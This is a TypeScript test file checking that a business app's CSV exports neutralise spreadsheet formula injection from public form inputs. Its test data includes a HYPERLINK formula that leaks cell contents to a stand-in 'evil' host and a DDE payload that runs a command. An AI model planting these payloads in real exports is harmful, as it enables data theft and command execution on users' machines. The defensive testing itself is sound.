import assert from 'node:assert/strict'
import { after, before, describe, test } from 'node:test'
import { Type } from 'typebox'
import { toCsvText, type CsvColumn } from '../../src/core/csv.ts'
import { buildTestApp, call, createOrg, type Res, type TestApp, type TestOrg } from '../helpers/app.ts'
import { createProduct } from '../helpers/sales-fixtures.ts'
import { createVendor } from '../helpers/purchase.ts'
import { createEmployee } from '../helpers/tenancy.ts'
import { createProject, createTask } from '../helpers/projects.ts'

// Finding 7 (issue 24): CSV formula injection. A name anyone can give through the
// public POST /crm/capture and POST /support must come out of every CSV the
// service writes as text, not as a live formula
// (docs/analytics.md "Formula injection", docs/platform.md "CSV"); number
// columns stay numbers.

const EVIL = '=HYPERLINK("http://evil/?"&A1,"Click")'
/** EVIL as a CSV cell: a leading ', then RFC 4180 quoting (it holds quotes and a comma). */
const EVIL_CELL = `"'=HYPERLINK(""http://evil/?""&A1,""Click"")"`
const SUPPORT = "@SUM(1+1)*cmd|' /C calc'!A0"

describe('the kernel writer (src/core/csv.ts)', () => {
  const columns: CsvColumn[] = [{ key: 'text' }, { key: 'amount', number: true }]
  const line = (cells: unknown[]) => toCsvText(columns, [cells]).split('\n').slice(1).join('\n')

  test('a text cell beginning with =, +, -, @, a tab or a carriage return gets a leading quote', () => {
    assert.equal(line(['=1+2', '1.00']), "'=1+2,1.00\n")
    assert.equal(line(['+1 555 0100', '1.00']), "'+1 555 0100,1.00\n")
    assert.equal(line(['-2+3', '1.00']), "'-2+3,1.00\n")
    assert.equal(line(['@SUM(A1:A9)', '1.00']), "'@SUM(A1:A9),1.00\n")
    assert.equal(line(['\t=1', '1.00']), "'\t=1,1.00\n")
    // A carriage return also makes RFC 4180 quote the cell.
    assert.equal(line(['\r=1', '1.00']), `"'\r=1",1.00\n`)
    // The full-width signs some spreadsheets read as the same.
    assert.equal(line(['\uFF1D1+2', '1.00']), "'\uFF1D1+2,1.00\n")
    // Anything else is left alone, and a sign further in is not a formula.
    for (const plain of ['Acme', "'quoted", ' =1', 'a=b', '1-2', '']) assert.equal(line([plain, '1.00']), `${plain},1.00\n`)
    // Quoting still applies on top of the prefix.
    assert.equal(line([EVIL, '1.00']), `${EVIL_CELL},1.00\n`)
  })

  test('number columns are left as they are, negative ones included; text that looks like a number is still text', () => {
    assert.equal(line(['x', '-12.50']), 'x,-12.50\n')
    assert.equal(line(['x', -5]), 'x,-5\n')
    assert.equal(line(['x', '-2.5']), 'x,-2.5\n')
    assert.equal(line([-7, '0.00']), '-7,0.00\n')
    // A text column holding "-12.50" is text: prefixed.
    assert.equal(line(['-12.50', '0.00']), "'-12.50,0.00\n")
    // A number column holding anything but a plain decimal is treated as text.
    assert.equal(line(['x', '-1+cmd|A0']), "x,'-1+cmd|A0\n")
    assert.equal(line(['x', '=1']), "x,'=1\n")
    // Object rows by key, the header as declared.
    assert.equal(toCsvText([{ key: 'n', header: 'Name' }, { key: 'v', number: true }], [{ n: '+x', v: '-0.05' }]), "Name,v\n'+x,-0.05\n")
  })
})

describe('through HTTP: names from the public forms in every CSV', () => {
  let t: TestApp
  let o: TestOrg
  const ids: Record<string, string> = {}
  const today = new Date().toISOString().slice(0, 10)

  const ok = (res: Res, status = 200) => {
    assert.equal(res.status, status, JSON.stringify(res.body))
    return res.body
  }
  const csv = async (path: string) => {
    const res = await call(t.app, 'GET', path, { token: o.token, headers: { accept: 'text/csv' } })
    assert.equal(res.status, 200, String(res.body))
    assert.match(String(res.headers['content-type']), /^text\/csv/)
    return String(res.body).split('\n')
  }
  /** Runs a report run to its end (the queue worker, through the admin route) and answers its file's lines. */
  const runFile = async (type: string, parameters: Record<string, unknown>) => {
    const run = ok(await o.post('/reports', { type, parameters }), 201)
    ok(await o.post('/admin/jobs/report-runs/run'))
    const done = ok(await o.get(`/reports/${run.id}`))
    assert.equal(done.status, 'succeeded', done.error)
    const res = await o.get(`/reports/${run.id}/file`)
    assert.equal(res.status, 200)
    return String(res.body).split('\n')
  }

  before(async () => {
    t = await buildTestApp()
    o = await createOrg(t.app)
    const { captureToken } = ok(await o.get('/crm/capture-settings'))
    // Without a credential: a lead from the web form, which an agent converts into a contact ...
    const lead = ok(await call(t.app, 'POST', '/crm/capture', { body: { captureToken, name: EVIL, email: 'lead@evil.test' } }), 201)
    const converted = ok(await o.post(`/crm/leads/${lead.id}/convert`))
    ids.captured = converted.contactId
    // ... and a contact made by the public support form.
    ok(await call(t.app, 'POST', '/support', { body: { captureToken, name: SUPPORT, email: 'support@evil.test', subject: 'Help', description: 'Please' } }), 201)
    const found = ok(await o.get('/contacts?search=support@evil.test')).data
    assert.equal(found.length, 1)
    assert.equal(found[0].name, SUPPORT)
    ids.support = found[0].id
    for (const [contactId, unitPrice] of [[ids.captured, 12345], [ids.support, 1000]] as const) {
      const inv = ok(await o.post('/invoices', { contactId, invoiceDate: '2026-03-01', dueDate: '2026-03-15', lineItems: [{ description: 'Work', quantity: 3, unitPrice }] }), 201)
      ok(await o.post(`/invoices/${inv.id}/send`, {}))
      ids[`invoice-${contactId}`] = inv.id
    }
    const product = await createProduct(o, { name: '+SUM(1)', price: 2500 })
    ids.product = product.id
    const quotation = ok(await o.post('/sales/quotations', { contactId: ids.captured, lineItems: [{ productId: product.id, quantity: 2, unitPrice: 2500 }] }), 201)
    ok(await o.post(`/sales/quotations/${quotation.id}/confirm`), 201)
    const vendor = await createVendor(o, { name: '-2+3', email: 'vendor@evil.test' })
    ids.vendor = vendor.id
    const storable = await createProduct(o, { type: 'storable', name: '=1+1', cost: 250 })
    ids.storable = storable.id
    const rfq = ok(await o.post('/purchase/rfqs', { vendorId: vendor.id, lineItems: [{ productId: storable.id, quantity: 10, unitPrice: 100 }] }), 201)
    ok(await o.post(`/purchase/rfqs/${rfq.id}/confirm`, {}))
    ok(await o.post(`/purchase/orders/${rfq.id}/bill`, { vendorInvoiceNumber: 'V-1', invoiceDate: '2026-03-01', dueDate: '2026-03-31' }), 201)
    ids.adjustment = ok(await o.post('/inventory/adjustments', { locationId: 'LOC-STOCK', date: '2026-03-05', lines: [{ productId: storable.id, realQty: 10 }] }), 201).id
  })
  after(() => t.close())

  test('GET /analytics/receivables/aging as text/csv', async () => {
    assert.deepEqual(await csv('/analytics/receivables/aging?asOf=2026-04-30'), [
      'contactId,contactName,contactEmail,current,days1to30,days31to60,days61to90,over90,total,invoices,currency',
      `${ids.captured},${EVIL_CELL},lead@evil.test,0.00,0.00,370.35,0.00,0.00,370.35,1,usd`,
      `${ids.support},'${SUPPORT},support@evil.test,0.00,0.00,30.00,0.00,0.00,30.00,1,usd`,
      '',
    ])
  })

  test('GET /analytics/payables/aging, /stock/valuation and /sales (by customer and by product) as text/csv', async () => {
    assert.deepEqual(await csv('/analytics/payables/aging?asOf=2026-04-30'), [
      'vendorId,vendorName,vendorEmail,current,days1to30,days31to60,days61to90,over90,total,invoices,currency',
      `${ids.vendor},'-2+3,vendor@evil.test,0.00,10.00,0.00,0.00,0.00,10.00,1,usd`,
      '',
    ])
    assert.deepEqual(await csv('/analytics/stock/valuation'), [
      'productId,productName,productSku,quantity,unitCost,value,currency',
      `${ids.storable},'=1+1,,10,2.50,25.00,usd`,
      '',
    ])
    assert.deepEqual(await csv('/analytics/sales?groupBy=customer'), ['keyId,keyName,revenue,orders,currency', `${ids.captured},${EVIL_CELL},50.00,1,usd`, ''])
    assert.deepEqual(await csv('/analytics/sales?groupBy=product'), ['keyId,keyName,revenue,orders,quantity,currency', `${ids.product},'+SUM(1),50.00,1,2,usd`, ''])
  })

  test('report runs of the analytics types: the same cells', async () => {
    assert.deepEqual(await runFile('receivables_aging', { asOf: '2026-04-30' }), await csv('/analytics/receivables/aging?asOf=2026-04-30'))
    assert.deepEqual((await runFile('sales', { groupBy: 'customer', to: today }))[1], `${ids.captured},${EVIL_CELL},50.00,1,usd`)
    assert.deepEqual((await runFile('payables_aging', { asOf: '2026-04-30' }))[1], `${ids.vendor},'-2+3,vendor@evil.test,0.00,10.00,0.00,0.00,0.00,10.00,1,usd`)
    assert.deepEqual((await runFile('stock_valuation', {}))[1], `${ids.storable},'=1+1,,10,2.50,25.00,usd`)
  })

  test('the row exports: invoices, stock_moves, timesheets', async () => {
    const invoices = await runFile('invoices', { from: '2026-03-01', to: '2026-03-01' })
    const number = async (id: string) => ok(await o.get(`/invoices/${id}`)).number
    assert.deepEqual(invoices.sort(), [
      '',
      'id,number,status,contactId,contactName,contactEmail,invoiceDate,dueDate,currency,subtotal,taxAmount,total,amountPaid,amountDue',
      `${ids[`invoice-${ids.captured}`]},${await number(ids[`invoice-${ids.captured}`])},sent,${ids.captured},${EVIL_CELL},lead@evil.test,2026-03-01,2026-03-15,usd,370.35,0.00,370.35,0.00,370.35`,
      `${ids[`invoice-${ids.support}`]},${await number(ids[`invoice-${ids.support}`])},sent,${ids.support},'${SUPPORT},support@evil.test,2026-03-01,2026-03-15,usd,30.00,0.00,30.00,0.00,30.00`,
    ].sort())

    const moves = await runFile('stock_moves', { from: '2026-03-05', to: '2026-03-05' })
    const [move] = ok(await o.get('/inventory/moves')).data
    const adjustment = ok(await o.get(`/inventory/adjustments/${ids.adjustment}`))
    assert.deepEqual(moves, [
      'id,reference,doneAt,productId,productName,productSku,quantity,sourceLocationId,destinationLocationId,transferId,adjustmentId',
      `${move.id},${adjustment.reference},2026-03-05T00:00:00.000Z,${ids.storable},'=1+1,,10,LOC-LOSS,LOC-STOCK,,${ids.adjustment}`,
      '',
    ])

    const employee = await createEmployee(o, { name: '@Grace' })
    const project = await createProject(o, { name: '+Apollo' })
    const task = await createTask(o, project.id, { title: '-Guidance' })
    const entry = ok(await o.post(`/projects/${project.id}/tasks/${task.id}/timesheets`, { employeeId: employee.id, date: '2026-04-30', hours: 1.25, billable: true, description: EVIL }), 201)
    assert.deepEqual(await runFile('timesheets', { from: '2026-04-30', to: '2026-04-30' }), [
      'id,date,projectId,projectName,taskId,taskTitle,employeeId,employeeName,hours,billable,description',
      `${entry.id},2026-04-30,${project.id},'+Apollo,${task.id},'-Guidance,${employee.id},'@Grace,1.25,true,${EVIL_CELL}`,
      '',
    ])
  })

  test("a report type another module registers goes through the same writer: money and number columns keep their sign, text does not", async () => {
    t.app.services.reports!.registerType('test_signed', {
      description: 'negative figures',
      parameters: Type.Object({}, { additionalProperties: false }),
      columns: ['label', { key: 'amount', money: true }, { key: 'quantity', number: true }, 'note'],
      rows: () => [{ label: '-12.50', amount: -1250, quantity: '-2.5', note: '-2.5' }, { label: 'plain', amount: 5, quantity: -3, note: '+x' }],
    })
    assert.deepEqual(await runFile('test_signed', {}), [
      'label,amount,quantity,note',
      "'-12.50,-12.50,-2.5,'-2.5",
      "plain,0.05,-3,'+x",
      '',
    ])
  })
})
